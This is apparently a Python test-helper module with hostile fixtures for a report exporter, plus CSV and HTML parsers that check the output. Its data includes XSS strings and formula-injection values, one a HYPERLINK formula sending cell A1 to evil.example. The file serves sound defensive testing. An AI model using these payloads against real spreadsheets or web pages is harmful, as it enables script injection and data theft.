"""Helpers of the report tests: hostile data, and each format parsed back the way a reader
(Excel, a browser, a program) would take it apart.
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser

from exchange.report.model import DayActivity, Entry, HistoryEvent, Report

NOW = datetime(2026, 3, 10, 12, 0, tzinfo=UTC)
TOKEN = "test-token-5f2a9c"  # shaped like a token, long enough to be scrubbed

# What 1C (or a prankster with access to it) might write, and what a report must survive.
SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(2)">'
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"открыть")'
FORMULAS = (HYPERLINK, "+1", "-1", "@SUM(A1:A9)", "\tTAB", "\rCR", "=1+1")
CYRILLIC = "Установка цен номенклатуры 000184 «Ёлочные игрушки»"
LONG = "Щ" * 10_000
WITH_NUL = "before\x00after"


def hostile_entries() -> tuple[Entry, ...]:
    """Entries with hostile values in every field that comes from data."""
    base = datetime(2026, 3, 8, 9, 30, tzinfo=UTC)
    history = (
        HistoryEvent(base, "taken", None, "new", "w1"),
        HistoryEvent(
            base + timedelta(seconds=1),
            "taken-over",
            "in_progress",
            "in_progress",
            "w0",
            1,
            leased_at=base,
            lease_until=base + timedelta(seconds=0.5),
            detail="the lease of w0 had expired: result unknown; taken over by w1 for attempt 2",
        ),
        HistoryEvent(
            base + timedelta(seconds=2),
            "quarantined",
            "in_progress",
            "quarantined",
            "w1",
            2,
            leased_at=base + timedelta(seconds=1),
            http_status=422,
            detail=f"422 {SCRIPT}",
        ),
        HistoryEvent(
            base + timedelta(seconds=3),
            "operator-note",
            None,
            None,
            None,
            operator=IMG,
            note=HYPERLINK,
        ),
    )
    entries = [
        Entry(
            message_id="price.SKU-1.v1.aaaa",
            kind="price",
            aggregate=HYPERLINK,
            version=1,
            reason="http-422",
            attempts=1,
            last_status=422,
            last_error=f"422 Unprocessable Entity: {SCRIPT}",
            source_ref=CYRILLIC,
            first_seen=base,
            quarantined_at=base + timedelta(seconds=2),
            rejected_row=False,
            staging_id=1,
            payload='{"sku": "SKU-1", "price": "1.00", "note": "' + SCRIPT + '"}',
            last_attempt=base + timedelta(seconds=2),
            superseded_after_quarantine=True,
            history=history,
        ),
    ]
    for i, formula in enumerate(FORMULAS[1:], start=2):
        entries.append(
            Entry(
                message_id=f"rejected-{i}",
                kind="stock",
                aggregate=formula,
                version=i,
                reason="unknown-kind",
                attempts=0,
                last_status=None,
                last_error=formula,
                source_ref=formula,
                first_seen=base + timedelta(hours=i),
                quarantined_at=base + timedelta(hours=i),
                rejected_row=True,
                staging_id=i,
                payload=formula,
            )
        )
    entries.append(
        Entry(
            message_id="rejected-99",
            kind="price",
            aggregate="SKU-LONG",
            version=3,
            reason="invalid-contract",
            attempts=0,
            last_status=None,
            last_error=WITH_NUL,
            source_ref=IMG,
            first_seen=base + timedelta(days=1),
            quarantined_at=base + timedelta(days=1),
            rejected_row=True,
            staging_id=99,
            payload='{"note": "' + LONG + '", "nul": "' + WITH_NUL + '"}',
        )
    )
    return tuple(entries)


def activity() -> tuple[DayActivity, ...]:
    first = NOW.date() - timedelta(days=13)
    return tuple(DayActivity(first + timedelta(days=i), 100 + i, i % 3) for i in range(14))


def hostile_report() -> Report:
    return Report(generated_at=NOW, entries=hostile_entries(), activity=activity())


# -- CSV -----------------------------------------------------------------------------------------


@dataclass
class CsvReport:
    summary: list[list[str]]
    reasons: list[list[str]]
    header: list[str]
    rows: list[dict[str, str]]


def parse_csv(data: bytes, separator: str) -> CsvReport:
    """The three blocks of the CSV report: summary, counts by reason, detail."""
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte order mark"
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    blocks: list[list[list[str]]] = [[]]
    for row in rows:
        if row:
            blocks[-1].append(row)
        else:
            blocks.append([])
    summary, reasons, detail = blocks
    header, *body = detail
    return CsvReport(summary, reasons, header, [dict(zip(header, r, strict=True)) for r in body])


# -- HTML ----------------------------------------------------------------------------------------


VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "wbr"}


class Page(HTMLParser):
    """What a browser builds from the page: elements, attributes, and the text it shows."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.stack: list[str] = []
        self.styles: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self.stack:
            while self.stack and self.stack.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        if self.stack and self.stack[-1] == "style":
            self.styles.append(data)
        else:
            self.text.append(data)

    def named(self, tag: str) -> list[dict[str, str | None]]:
        return [attrs for name, attrs in self.tags if name == tag]

    @property
    def all_text(self) -> str:
        return "".join(self.text)


def parse_html(data: bytes) -> Page:
    page = Page()
    page.feed(data.decode("utf-8"))
    page.close()
    return page
